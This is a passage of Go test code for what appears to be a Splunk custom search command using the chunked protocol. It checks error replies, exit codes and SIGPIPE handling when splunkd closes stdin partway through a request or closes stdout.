func sameStream(a, b io.Reader) error {
	ba, bb := make([]byte, 64<<10), make([]byte, 64<<10)
	var off int64
	for {
		na, ea := io.ReadFull(a, ba)
		nb, eb := io.ReadFull(b, bb)
		if i := firstDiff(ba[:na], bb[:nb]); i >= 0 {
			return fmt.Errorf("differ at byte %d: %.40q vs %.40q", off+int64(i), ba[i:na], bb[i:nb])
		}
		off += int64(na)
		if ea != nil || eb != nil {
			if (ea == nil) != (eb == nil) {
				return fmt.Errorf("lengths differ after byte %d", off)
			}
			return nil
		}
	}
}

func firstDiff(a, b []byte) int {
	for i := range min(len(a), len(b)) {
		if a[i] != b[i] {
			return i
		}
	}
	if len(a) != len(b) {
		return min(len(a), len(b))
	}
	return -1
}

// TestStdinClosedMidChunk: splunkd goes away in the middle of a request.
// The command answers with an ERROR reply and exits 1.
func TestStdinClosedMidChunk(t *testing.T) {
	pr, pw := io.Pipe()
	outR, outW := io.Pipe()
	done := make(chan []replyChunk, 1)
	errc := make(chan error, 1)
	go func() {
		br := bufio.NewReader(outR)
		var rs []replyChunk
		for {
			meta, n, err := readReplyHead(br)
			if err == io.EOF {
				break
			}
			if err != nil {
				errc <- err
				outR.CloseWithError(err)
				done <- rs
				return
			}
			body := make([]byte, n)
			if _, err := io.ReadFull(br, body); err != nil {
				errc <- err
				done <- rs
				return
			}
			rs = append(rs, replyChunk{meta, body})
			if len(rs) == 1 {
				errc <- nil // the getinfo reply is in
			}
		}
		done <- rs
	}()
	wait := startChild(t, pr, outW)
	if _, err := io.WriteString(pw, getinfo()); err != nil {
		t.Fatal(err)
	}
	if err := <-errc; err != nil {
		t.Fatalf("getinfo reply: %v", err)
	}
	meta := `{"action":"execute","finished":true}`
	io.WriteString(pw, fmt.Sprintf("chunked 1.0,%d,%d\n%sprocess\nwhoami\n", len(meta), 1000, meta))
	time.Sleep(100 * time.Millisecond) // let it block reading the rest
	closed := time.Now()
	pw.Close()
	r := wait()
	outW.Close()
	rs := <-done
	t.Logf("ended %v after stdin was closed", time.Since(closed).Round(time.Millisecond))
	if r.code != 1 || len(rs) != 2 {
		t.Fatalf("exit %d, %d replies; want 1 and 2 (stderr %s)", r.code, len(rs), r.stderr)
	}
	if e := errorTexts(rs[1].meta); len(e) != 1 || !strings.Contains(e[0], "chunk 2 at byte") || !strings.Contains(e[0], "unexpected EOF") {
		t.Errorf("ERROR %q, want the truncated chunk 2", e)
	}
}

// TestStdoutClosed: the reader of stdout goes away (splunkd died). Go
// programs are killed by SIGPIPE on a write to a broken pipe on fd 1; the
// process must end promptly either way, never with status 0.
func TestStdoutClosed(t *testing.T) {
	for _, when := range []string{"before getinfo reply", "after getinfo reply"} {
		t.Run(when, func(t *testing.T) {
			outR, outW, err := os.Pipe()
			if err != nil {
				t.Fatal(err)
			}
			inR, inW, err := os.Pipe()
			if err != nil {
				t.Fatal(err)
			}
			wait := startChild(t, inR, outW)
			inR.Close()
			outW.Close()
			if when == "after getinfo reply" {
				if _, err := inW.WriteString(getinfo()); err != nil {
					t.Fatal(err)
				}
				if err := expectGetinfoReply(bufio.NewReader(outR)); err != nil {
					t.Fatal(err)
				}
			}
			closed := time.Now()
			outR.Close()
			// Keep feeding requests; the writes fail once the child is gone.
			go func() {
				defer inW.Close()
				if when == "before getinfo reply" {
					inW.WriteString(getinfo())
				}
				for range 100 {
					if _, err := inW.WriteString(execute(false, "process\nwhoami\n")); err != nil {
						return
					}
				}
			}()
			r := wait()
			took := time.Since(closed)
			t.Logf("ended %v after stdout was closed: exit %d, signal %v, stderr %q", took.Round(time.Millisecond), r.code, r.signal, r.stderr)
			if r.code == 0 {
				t.Errorf("exit 0 although no reply could be written")
			}
			if r.signal != 0 && r.signal != syscall.SIGPIPE {
				t.Errorf("killed by %v, want SIGPIPE or exit 1", r.signal)
			}
			if took > 10*time.Second {
				t.Errorf("took %v to end", took)
			}
		})
	}
}
